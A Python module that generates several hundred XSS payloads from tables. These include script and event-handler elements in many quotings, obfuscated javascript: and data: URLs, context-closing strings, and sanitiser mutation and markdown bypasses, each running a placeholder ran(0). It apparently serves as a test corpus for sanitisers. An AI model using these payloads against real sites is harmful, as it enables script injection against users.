"""Ways in which people have smuggled script into pages: several hundred, made from a few tables.

Each is a text in which `RUN` stands for the script that it would run. They are patterns known from browsers' and
sanitisers' histories: elements and handlers in every quoting, addresses in every disguise, text that closes what it
stands in, and markup that a browser reads otherwise the second time.
"""

from __future__ import annotations

from itertools import product

RUN = "ran(0)"
"""The script; who uses a vector puts a number of its own in."""

ELEMENTS = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script\n>{}</script\n>", "<script/x>{}</script>", "<script\x0c>{}</script>",
    "<script src=data:text/javascript,{}></script>", "<script src='data:text/javascript,{}' async></script>",
    "<svg><script>{}</script></svg>", "<svg><script href='data:text/javascript,{}'></script></svg>",
    "<math><mi><script>{}</script></mi></math>", "<scr<script>ipt>{}</script>", "<<script>{}//<</script>",
    "<script>/*</script>*/{}</script>", "<script x='>'>{}</script>", "<scr\0ipt>{}</scr\0ipt>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>", "<iframe src='javascript:parent.{}'></iframe>",
    "<iframe src='data:text/html,<script>parent.{}</script>'></iframe>", "<frameset onload={}><frame></frameset>",
    "<object data='javascript:parent.{}'></object>", "<object data='data:text/html,<script>parent.{}</script>'></object>",
    "<embed src='javascript:parent.{}'>", "<embed src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"parent.{}\"/>'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<meta http-equiv=refresh content='0;url=data:text/html,<script>{}</script>'>",
    "<base href='javascript:{}//'><a href=#>x</a>", "<form action='javascript:{}'><button>x</button></form>",
    "<form><button formaction='javascript:{}'>x</button></form>", "<form><input type=submit formaction='javascript:{}'></form>",
    "<form><input type=image src=x formaction='javascript:{}'></form>", "<isindex action='javascript:{}' type=image>",
    "<link rel=stylesheet href='data:text/css,*{{}}' onload={}>", "<link rel=import href='data:text/html,<script>{}</script>'>",
    "<link rel=prefetch href=x onerror={}>", "<style onload={}></style>", "<style>@import 'javascript:{}';</style>",
    "<style>*{{background:url('javascript:{}')}}</style>", "<style>*{{-moz-binding:url('data:text/xml,{}')}}</style>",
    "<p style=\"background:url('javascript:{}')\">x</p>", "<p style='x:expression({})'>x</p>",
    "<div style='width:1px;animation:x' onanimationstart={}>x</div>",
    "<svg><use href='data:image/svg+xml,<svg id=\"x\" xmlns=\"http://www.w3.org/2000/svg\"><a href=\"javascript:{}\"><circle r=\"9\"/></a></svg>#x'></use></svg>",
    "<svg><a xlink:href='javascript:{}'><text y=9>x</text></a></svg>", "<svg><a><animate attributeName=href values='javascript:{}'/><text y=9>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to={}></svg>", "<svg><animate onbegin={} attributeName=x dur=1s></svg>",
    "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>", "<svg><image href=x onerror={}></svg>",
    "<math href='javascript:{}'>x</math>", "<math><maction actiontype='statusline#x' xlink:href='javascript:{}'>x</maction></math>",
    "<xml id=x><a><b>&lt;script&gt;{}&lt;/script&gt;</b></a></xml>", "<template><script>{}</script></template>",
    "<template shadowrootmode=open><img src=x onerror={}></template>", "<portal src='javascript:{}'></portal>",
    "<dialog open onfocus={} tabindex=0>x</dialog>", "<input autofocus onfocus={}>", "<keygen autofocus onfocus={}>",
    "<x contenteditable autofocus onfocus={}>x</x>", "<button popovertarget=p>x</button><p popover id=p onbeforetoggle={}>x</p>",
    "<input type=hidden oncontentvisibilityautostatechange={} style='content-visibility:auto'>",
    "<?xml-stylesheet href='javascript:{}'?>", "<!--[if gte IE 4]><script>{}</script><![endif]-->", "<![CDATA[<script>{}</script>]]>",
    "<comment><img src='</comment><img src=x onerror={}//'></comment>", "<plaintext><script>{}</script>", "<xmp><script>{}</script></xmp>",
    "<noembed><img title='</noembed><img src=x onerror={}>'></noembed>", "<listing>&lt;img src=x onerror={}&gt;</listing>",
    "<bgsound src='javascript:{}'>", "<layer src='javascript:{}'></layer>", "<table background='javascript:{}'><td background='javascript:{}'>",
    "<img dynsrc='javascript:{}'>", "<img lowsrc='javascript:{}'>", "<img srcset='x 1x, javascript:{} 2x' onerror={}>",
    "<video poster='javascript:{}'></video>", "<img src=x:x onerror=eval(name) name={}>", "<a href=# ping='javascript:{}'>x</a>",
)  # fmt: skip

# Elements that fire by themselves, or when a pointer or the keyboard comes by.
HANDLERS = (
    ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("video src=x", "onerror"), ("audio src=x", "onerror"),
    ("video><source src=x", "onerror"), ("details open", "ontoggle"), ("iframe", "onload"), ("object data=x", "onerror"),
    ("a href=#", "onmouseover"), ("p tabindex=0", "onfocus"), ("div", "onpointerenter"), ("b", "onclick"),
    ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("marquee", "onstart"), ("input type=image src=x", "onerror"),
    ("h2", "onmouseenter"), ("blockquote cite=x", "onwheel"), ("time", "onauxclick"),
)  # fmt: skip
QUOTINGS = (
    "<{0} {1}={2}>x", "<{0} {1}='{2}'>x", '<{0} {1}="{2}">x', "<{0} {1}=`{2}`>x", "<{0}\n{1}\n=\n{2}>x", "<{0}\t{1}={2}>x",
    "<{0}\x0c{1}={2}>x", "<{0} {1}={2}//", "<{0} x='>' {1}={2}>x", "<{0} {1} = '{2}' >x",
)  # fmt: skip

SCRIPT = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "\x01javascript:{}", "java\tscript:{}", "java\nscript:{}", "java\rscript:{}",
    "javascript\t:{}", "javascript&colon;{}", "&#106;avascript:{}", "&#x6A;avascript:{}", "&#0000106avascript:{}", "java&#9;script:{}",
    "java&#10;script:{}", "java&Tab;script:{}", "java&NewLine;script:{}", "&#1;javascript:{}", "\u00a0javascript:{}", "\u2028javascript:{}",
    "javascript://%0a{}", "javascript://x/?%0d{}", "javascript:/*x*/{}", "javascript:void({})", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMCk8L3NjcmlwdD4=", "DATA:text/html,<svg onload={}>", "data:image/svg+xml,<svg onload={}>",
    "vbscript:{}", "VBScript:{}", "livescript:{}", "mocha:{}", "view-source:javascript:{}", "feed:javascript:{}", "jar:javascript:{}",
    "blob:javascript:{}", "x:javascript:{}", "//x/%0ajavascript:{}", "javascript%3a{}", "j&#97;vascript:{}", "\ufeffjavascript:{}",
)  # fmt: skip
PLACES = (
    '<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", '<img src="{}">', '<blockquote cite="{}">x</blockquote>',
    "[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x]\n\n[x]: {}\n", "[x]\n\n[x]: <{}>\n", "[x]({} 'y')",
)  # fmt: skip

# Text that closes what it may stand in, before it opens its own.
CLOSERS = (
    "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "</select>", "</svg>", "</math>", "-->", "--!>",
    "]]>", '">', "'>", "`>", "%>", "?>", "*/", '\\">', "\\'>", "&quot;>", "</p></article></main>", "</blockquote></figure>",
    "\u2028", "\\u003c/script>", "<!--<script>", "<!--<script></script>", "{{", "${", "\x00", "\\x3c/script>", "</ScRiPt/x>",
)  # fmt: skip
AFTER = ("<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>")
ATTRIBUTES = ('" onmouseover="{}', "' onmouseover='{}", '" autofocus tabindex=0 onfocus="{}', "x onmouseover={} y",
              '"\nonpointerenter="{}', "` onmouseover={} `", '" style="x:expression({})', "&quot; onmouseover=&quot;{}",
              '"/onclick="{}', "'+{}+'", '"+{}+"', "\\';{};//", '\\";{};//', "</script>{}", "{}", "${{{}}}", "{{{{{}}}}}")  # fmt: skip

# Markup that has come out of cleaning otherwise than it went in.
MUTATIONS = (
    '<svg></p><style><a id="</style><img src=x onerror={}>">', '<math></p><style><a id="</style><img src=x onerror={}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    '<noscript><p title="</noscript><img src=x onerror={}>">', '<svg><style><img title="</style><img src=x onerror={}>">',
    '<svg><title><style><img title="</style></title><img src=x onerror={}>">', '<select><template><img title="</select><img src=x onerror={}>">',
    '<table><svg><style><img title="</style><img src=x onerror={}>">', '<p><svg><desc><style><a title="</style></desc><img src=x onerror={}>">',
    "<svg><foreignObject><style><!--</style><img src=x onerror={}>-->", '<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror={}>">',
    '<a href="x"><table><a href="y"><style><img title="</style><img src=x onerror={}>">', "<textarea><img title='</textarea><img src=x onerror={}>'>",
    "<xmp><p title='</xmp><img src=x onerror={}>'>", "<iframe><p title='</iframe><img src=x onerror={}>'>", "<style><p title='</style><img src=x onerror={}>'>",
    "<title><p title='</title><img src=x onerror={}>'>", "<!--><img src=x onerror={}>-->", "<!---><img src=x onerror={}>-->", "<!-- --!><img src=x onerror={}>",
    "<!- x ><img src=x onerror={}>", "</ x><img src=x onerror={}>", "<? x><img src=x onerror={}>", "<![x]><img src=x onerror={}>",
    "&lt;img src=x onerror={}&gt;", "&amp;lt;img src=x onerror={}&amp;gt;", "`<img src=x onerror={}>`` <img src=x onerror={}>",
    "~~~\n~~~~\n<img src=x onerror={}>", "    code\n<img src=x onerror={}>", "> q\n<img src=x onerror={}>", "[^1]\n\n[^1]: <img src=x onerror={}>",
    "| <img src=x onerror={}> |\n|---|\n", "# <img src=x onerror={}> {{#x onclick={}}}", "```<img src=x onerror={}>\nx\n```", '``` "onmouseover={}\nx\n```',
    '![" onerror="{}](x)', '[x](y "\\" onmouseover={} x=\\"")', "[x](y '\\' onmouseover={} ')", '![x](y "z\\" onerror={} \\"")',
)  # fmt: skip


def vectors() -> list[str]:
    """All of them, each once, in order, with `RUN` as the script."""
    made = [text.replace("{}", RUN).replace("{{", "{").replace("}}", "}") for text in ELEMENTS]
    for (element, event), quoting in product(HANDLERS, QUOTINGS):
        made.append(quoting.format(element, event, RUN))
    for place, script in product(PLACES, SCRIPT):
        made.append(place.replace("{}", script.replace("{}", RUN)))
    for closer, after in product(CLOSERS, AFTER):
        made.append(closer + after.replace("{}", RUN))
    made += [text.replace("{{", "{").replace("}}", "}").replace("{}", RUN) for text in (*ATTRIBUTES, *MUTATIONS)]
    return list(dict.fromkeys(made))
